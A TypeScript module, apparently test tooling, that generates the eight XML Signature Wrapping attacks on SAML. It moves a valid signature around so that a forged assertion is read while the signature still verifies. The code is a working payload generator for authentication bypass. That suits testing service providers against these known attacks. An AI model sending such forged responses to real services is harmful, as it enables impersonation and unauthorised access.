import type { KeyPair } from './identity-provider/configuration.ts';
import { assertionXml, responseXml, type Said, signed } from './saml-messages.ts';

const take = (xml: string): readonly [without: string, signature: string] => {
  const [signature = ''] = /<ds:Signature[\s\S]*?<\/ds:Signature>/.exec(xml) ?? [];
  return [xml.replace(signature, ''), signature];
};

const into = (xml: string, element: string, what: string): string =>
  xml.replace(`</${element}>`, `${what}</${element}>`);

const afterIssuer = (xml: string, what: string): string =>
  xml.replace('</saml:Issuer>', `</saml:Issuer>${what}`);

/**
 * The eight ways of "On Breaking SAML" (Somorovsky et al., 2012), numbered as SAML Raider has them, to keep a
 * good signature in a document and have another assertion read. `good` was signed; `evil` is what the forger wants.
 */
export const wrappings = (good: Said, evil: Said, keys: KeyPair): Record<string, string> => {
  const response = responseXml(good, assertionXml(good));
  const [plainResponse, responseSignature] = take(signed(response, good.id, { keys }));
  const evilResponse = responseXml(evil, assertionXml(evil));

  const signedAssertion = signed(assertionXml(good), good.assertionId, { keys });
  const [plainAssertion, assertionSignature] = take(signedAssertion);
  const evilAssertion = assertionXml(evil);
  const around = (inside: string): string => responseXml(good, inside);

  return {
    XSW1: afterIssuer(evilResponse, into(responseSignature, 'ds:Signature', plainResponse)),
    XSW2: afterIssuer(evilResponse, `${plainResponse}${responseSignature}`),
    XSW3: around(`${evilAssertion}${signedAssertion}`),
    XSW4: around(into(evilAssertion, 'saml:Assertion', signedAssertion)),
    XSW5: around(`${afterIssuer(evilAssertion, assertionSignature)}${plainAssertion}`),
    XSW6: around(
      afterIssuer(evilAssertion, into(assertionSignature, 'ds:Signature', plainAssertion)),
    ),
    XSW7: around(`<samlp:Extensions>${evilAssertion}</samlp:Extensions>${signedAssertion}`),
    XSW8: around(
      afterIssuer(
        evilAssertion,
        into(assertionSignature, 'ds:Signature', `<ds:Object>${plainAssertion}</ds:Object>`),
      ),
    ),
  };
};
